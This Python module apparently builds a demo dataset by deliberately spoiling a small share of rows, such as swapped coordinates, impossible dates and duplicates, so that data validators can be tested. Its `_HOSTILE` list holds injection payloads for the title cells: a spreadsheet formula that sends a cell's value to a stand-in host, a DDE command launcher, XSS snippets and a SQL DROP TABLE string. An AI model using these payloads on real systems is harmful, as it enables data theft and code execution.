"""Wrong rows: put in on purpose, counted, and told in the manifest."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field

import numpy as np

from data.demo.cases import Bools
from data.demo.clocks import CLOCKS, NO_SUCH_DATE, Cell
from data.demo.lifecycle import NEVER
from data.demo.places import Index, Places
from data.demo.profiles import DepartmentProfile
from data.demo.texts import Table
from data.demo.workdays import DAY

#: Share of rows that are wrong, by kind; 0.6 % together.
_SHARES = {
    "bad_code": 0.0009, "swapped": 0.0006, "impossible_time": 0.0008, "duplicate": 0.0009,
    "out_of_region": 0.0005, "missing_required": 0.0007, "bad_number": 0.0004, "wrong_county": 0.0008,
    "hostile_text": 0.0004,
}  # fmt: skip

_HOSTILE = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")',
    "<script>alert('演示')</script>",
    "请联系13800138000，急",
    "=1+1",
    "<img src=x onerror=alert(1)>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE incident; --",
)
#: Well-known places far from any one prefecture, degrees.
_ELSEWHERE = (
    (106.71, 26.58),
    (104.07, 30.66),
    (108.33, 22.84),
    (106.55, 29.56),
    (113.26, 23.13),
    (114.3, 30.59),
)
_NO_NUMBERS = ("东经103度", "103°47′12″", "103，7962", "不详", "经度未采集")
_NO_COUNTS = ("两次", "无", "一次以上", "非常满意")


@dataclass(frozen=True)
class Fault:
    """A wrong row by its position in the finished table."""

    kind: str
    position: int
    column: str


@dataclass
class _Draft:
    """A table while rows go wrong."""

    table: Table
    places: Places
    department: DepartmentProfile
    rng: np.random.Generator
    used: Bools
    found: list[tuple[str, int, str]] = field(default_factory=list)

    def choose(self, suitable: Bools, count: int) -> list[int]:
        """Up to `count` rows that suit and are still right."""
        free = np.flatnonzero(suitable & ~self.used)
        rows = np.sort(self.rng.choice(free, min(count, len(free)), replace=False))
        self.used[rows] = True
        return [int(row) for row in rows]

    def put(self, kind: str, row: int, **cells: Cell) -> None:
        """Write the cells and note the row under the first column named."""
        for name, value in cells.items():
            self.table.columns[name][row] = value
        self.found.append((kind, row, next(iter(cells))))


def spoil(
    table: Table, places: Places, department: DepartmentProfile, groups: Index, rng: np.random.Generator
) -> tuple[Index, tuple[Fault, ...]]:
    """Make some rows wrong in place.

    Parameters
    ----------
    groups
        Sheet of each row, ascending; a copy stays in the sheet of its original.

    Returns
    -------
    order, faults
        Rows of `table` in the order to be written, copies included, and what is wrong where in that order.
    """
    draft = _Draft(table, places, department, rng, np.zeros(len(table), dtype=np.bool_))
    floor = 3 if len(table) >= 150 else 1 if len(table) >= 30 else 0
    count = {kind: max(round(share * len(table)), floor) for kind, share in _SHARES.items()}
    for kind, make in _MAKERS.items():
        make(draft, count[kind])
    originals = draft.choose(np.ones(len(table), dtype=np.bool_), count["duplicate"])
    order, copies = _with_copies(originals, groups, rng)
    place_of = np.empty(len(table), dtype=np.int64)
    first = np.flatnonzero(~copies)
    place_of[order[first]] = first
    faults = [Fault(kind, int(place_of[row]), column) for kind, row, column in draft.found]
    faults += [Fault("duplicate", int(position), "case_no") for position in np.flatnonzero(copies)]
    return order, tuple(sorted(faults, key=lambda fault: fault.position))


def _with_copies(originals: list[int], groups: Index, rng: np.random.Generator) -> tuple[Index, Bools]:
    """Row order with each copy some rows below its original, within the same group."""
    n = len(groups)
    rows = np.array(originals, dtype=np.int64)
    below = np.minimum(rows + rng.integers(0, 60, len(rows)), n - 1)
    below = np.where(groups[below] == groups[rows], below, rows)
    key = np.concatenate([np.arange(n, dtype=np.float64), below + 0.5])
    sequence = np.argsort(key, kind="stable")
    return np.concatenate([np.arange(n), rows])[sequence], (sequence >= n)


def _bad_code(draft: _Draft, count: int) -> None:
    known = set(draft.places.community_codes)
    codes = draft.table.columns["community_code"]
    for number, row in enumerate(draft.choose(draft.table.cases.has_code, count)):
        code = str(codes[row])
        candidates = [code[:6] + "999999", code[:9] + "999", code[:-1], f"{float(code):.5E}"]
        choices = [c for c in candidates if c not in known]
        draft.put("bad_code", row, community_code=choices[number % len(choices)])


def _swapped(draft: _Draft, count: int) -> None:
    columns = draft.table.columns
    for row in draft.choose(draft.table.cases.has_point, count):
        draft.put("swapped", row, lon=columns["lat"][row], lat=columns["lon"][row])


def _impossible_time(draft: _Draft, count: int) -> None:
    times = draft.table.lives.times
    clock = CLOCKS[draft.department.clock]
    closed = times[:, 5] != NEVER
    for row in draft.choose(closed, count - count // 2):
        before = times[row : row + 1, 0] - int(draft.rng.integers(2, 40)) * DAY
        draft.put("impossible_time", row, closed_at=clock(before)[0])
    for row in draft.choose(np.ones_like(closed), count // 2):
        year = 1970 + int(times[row, 0] // (365.2425 * DAY))
        draft.put("impossible_time", row, received_at=NO_SUCH_DATE[draft.department.clock].format(year=year))


def _out_of_region(draft: _Draft, count: int) -> None:
    bounds = draft.places.bounds
    west, south = bounds[:, :2].min(axis=0) - 1
    east, north = bounds[:, 2:].max(axis=0) + 1
    far = [p for p in _ELSEWHERE if not (west < p[0] < east and south < p[1] < north)]
    for row in draft.choose(draft.table.cases.has_point, count):
        lon, lat = np.array(far[int(draft.rng.integers(len(far)))]) + draft.rng.normal(0.0, 0.05, 2)
        decimals = draft.department.decimals
        draft.put("out_of_region", row, lon=round(float(lon), decimals), lat=round(float(lat), decimals))


def _missing_required(draft: _Draft, count: int) -> None:
    required = [column.name for column in draft.department.contract.columns if column.required]
    for number, row in enumerate(draft.choose(np.ones(len(draft.table), dtype=np.bool_), count)):
        draft.put("missing_required", row, **{required[number % len(required)]: None})


def _bad_number(draft: _Draft, count: int) -> None:
    """A longitude in words; where the point is a geometry, a count in words."""
    if draft.department.contract.geometry == "columns":
        for number, row in enumerate(draft.choose(draft.table.cases.has_point, count)):
            draft.put("bad_number", row, lon=_NO_NUMBERS[number % len(_NO_NUMBERS)])
        return
    filed = draft.table.lives.times[:, 1] != NEVER
    for number, row in enumerate(draft.choose(filed, count)):
        column = "satisfaction" if number % 4 == 3 else "rework_count"
        draft.put("bad_number", row, **{column: _NO_COUNTS[number % 4]})


def _wrong_county(draft: _Draft, count: int) -> None:
    """The point of another row, whose county differs."""
    cases, columns = draft.table.cases, draft.table.columns
    county = draft.places.county[cases.grid]
    for row in draft.choose(cases.has_point & cases.has_code, count):
        others = np.flatnonzero(cases.has_point & (county != county[row]) & ~draft.used)
        if len(others):
            other = int(draft.rng.choice(others))
            draft.put("wrong_county", row, lon=columns["lon"][other], lat=columns["lat"][other])


def _hostile_text(draft: _Draft, count: int) -> None:
    for number, row in enumerate(draft.choose(np.ones(len(draft.table), dtype=np.bool_), count)):
        draft.put("hostile_text", row, title=_HOSTILE[number % len(_HOSTILE)])


_MAKERS: dict[str, Callable[[_Draft, int], None]] = {
    "bad_code": _bad_code,
    "swapped": _swapped,
    "impossible_time": _impossible_time,
    "out_of_region": _out_of_region,
    "missing_required": _missing_required,
    "bad_number": _bad_number,
    "wrong_county": _wrong_county,
    "hostile_text": _hostile_text,
}
